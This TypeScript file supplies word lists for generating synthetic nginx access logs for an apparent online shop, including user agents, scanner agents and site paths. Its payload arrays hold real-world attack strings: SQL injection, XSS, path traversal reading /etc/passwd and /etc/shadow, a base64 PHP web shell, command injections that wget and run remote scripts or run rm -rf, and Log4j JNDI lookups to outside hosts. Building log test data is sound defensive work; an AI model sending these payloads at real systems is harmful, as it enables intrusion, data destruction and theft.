// Word lists for the nginx corpus: user agents, site paths and attack payloads as they appear in real access logs
// (nginx writes `"` and `\` of a request as \x22 and \x5C).

export const BROWSER_AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36 Edg/123.0.2420.81',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36',
  'Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:124.0) Gecko/20100101 Firefox/124.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36',
  'Mozilla/5.0 (Linux; Android 13; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/24.0 Chrome/117.0.0.0 Mobile Safari/537.36',
  'Mozilla/5.0 (iPad; CPU OS 16_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/124.0.6367.88 Mobile/15E148 Safari/604.1',
];

/** Crawlers with addresses from their published ranges: [addresses, user agent]. */
export const BOTS: readonly (readonly [readonly string[], string])[] = [
  [['66.249.66.1', '66.249.66.194', '66.249.79.33'], 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)'],
  [['157.55.39.12', '40.77.167.5', '207.46.13.88'], 'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)'],
  [['54.36.148.77', '54.36.149.20'], 'Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)'],
  [['5.255.231.140', '213.180.203.9'], 'Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)'],
  [['20.171.207.3', '20.171.206.41'], 'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.0; +https://openai.com/gptbot)'],
  [['2a03:2880:f80c:1::face:b00c', '69.171.230.11'], 'facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)'],
];

export const TOOL_AGENTS = ['curl/8.5.0', 'python-requests/2.31.0', 'Go-http-client/1.1', 'Wget/1.21.4', 'okhttp/4.12.0'];

export const SCANNER_AGENTS = [
  'sqlmap/1.7.2#stable (https://sqlmap.org)',
  'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:001234)',
  'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
  'Fuzz Faster U Fool v2.1.0-dev',
  'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
  'masscan/1.3 (https://github.com/robertdavidgraham/masscan)',
  'gobuster/3.6',
  'WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)',
  'Mozilla/5.0 zgrab/0.x',
  'Wfuzz/3.1.0',
  'DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)',
];

export const CATEGORIES = ['shoes', 'jackets', 'bags', 'outdoor', 'kids', 'sale', 'accessories', 'new-in'];
export const WORDS = ['red', 'running', 'shoes', 'leather', 'bag', 'winter', 'jacket', 'size', '42', 'waterproof', 'kids', 'gift', 'blue', 'wool'];
export const BLOG_SLUGS = ['how-to-choose-hiking-boots', 'spring-collection-2025', 'caring-for-leather', 'our-new-store-in-lyon', 'size-guide'];
export const ASSETS = [
  ['/static/js/main.3f9a2c1e.js', 182_000], ['/static/js/vendor.8b1d44f0.js', 296_000], ['/static/css/app.c0ffee12.css', 48_000],
  ['/static/css/print.1a2b3c4d.css', 3_100], ['/images/logo.svg', 6_200], ['/images/hero-spring.webp', 148_000],
  ['/fonts/inter-var.woff2', 98_000], ['/favicon.ico', 15_086], ['/images/icons/cart.svg', 900],
] as const;

export const SQLI = [
  '/products?id=1%27%20OR%20%271%27=%271',
  '/products?id=1+UNION+SELECT+NULL,username,password+FROM+users--',
  '/search?q=1%27%20AND%20SLEEP(5)--%20-',
  '/index.php?id=-1%20UNION%20ALL%20SELECT%201,2,3,concat(user(),0x3a,database())--',
  '/login?user=admin%27--&pass=x',
  '/api/v1/products?sort=name;DROP%20TABLE%20users',
  '/news.php?id=1)%20AND%20(SELECT%207361%20FROM%20(SELECT(SLEEP(5)))abc)--%20xyz',
  '/products?id=1%20AND%201=CONVERT(int,(SELECT%20@@version))',
  "/item?id=1'%20or%20'1'='1",
];

export const XSS = [
  '/search?q=%3Cscript%3Ealert(1)%3C/script%3E',
  '/search?q=<script>alert(document.cookie)</script>',
  '/comment?text=%22%3E%3Csvg/onload=alert(1)%3E',
  '/?q=javascript:alert(1)',
  '/search?q=%3Cimg%20src=x%20onerror=alert(1)%3E',
  '/page?name=%3Ciframe%20src=javascript:alert(1)%3E',
  '/search?q=\\x22><script>alert(String.fromCharCode(88,83,83))</script>',
];

export const TRAVERSAL = [
  '/../../../../etc/passwd',
  '/static/..%2f..%2f..%2f..%2fetc%2fpasswd',
  '/download?file=../../../../etc/shadow',
  '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh',
  '/images/..%252f..%252f..%252fetc/passwd',
  '/assets/....//....//....//etc/hosts',
  '/index.php?page=..\\x5C..\\x5C..\\x5Cwindows\\x5Cwin.ini',
];

export const LFI = [
  '/index.php?page=php://filter/convert.base64-encode/resource=index.php',
  '/index.php?file=file:///etc/passwd',
  '/?page=/etc/passwd',
  '/index.php?page=http://198.51.100.66/shell.txt?',
  '/?include=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==',
];

export const CMD_INJECTION = [
  '/cgi-bin/ping.cgi?host=127.0.0.1;cat%20/etc/passwd',
  '/?cmd=$(wget%20http://185.220.101.4/x.sh%20-O-|sh)',
  '/shell?cd+/tmp;rm+-rf+*;wget+http://45.148.10.12/bins.sh;chmod+777+bins.sh;sh+bins.sh',
  '/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.0.2.14:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1',
  '/api/v1/ping?ip=8.8.8.8|id',
  '/index.php?s=/index/\\x5Cthink\\x5Capp/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id',
];

export const JNDI = [
  '${jndi:ldap://45.83.64.1:1389/Exploit}',
  '${${lower:j}ndi:${lower:l}dap://198.51.100.23:1389/a}',
  '${jndi:dns://log4j.example-oast.net/x}',
];

export const PROBES = [
  '/.env', '/.git/config', '/.git/HEAD', '/wp-login.php', '/wp-admin/', '/xmlrpc.php', '/phpmyadmin/', '/pma/index.php',
  '/backup.zip', '/db.sql', '/config.php.bak', '/.aws/credentials', '/server-status', '/actuator/env', '/actuator/health',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/.DS_Store', '/administrator/', '/wp-config.php~',
  '/.svn/entries', '/owa/auth/logon.aspx', '/boaform/admin/formLogin', '/HNAP1/', '/solr/admin/info/system',
  '/.vscode/sftp.json', '/sftp-config.json', '/web.config', '/.htpasswd', '/admin/config.yml', '/.env.production',
];
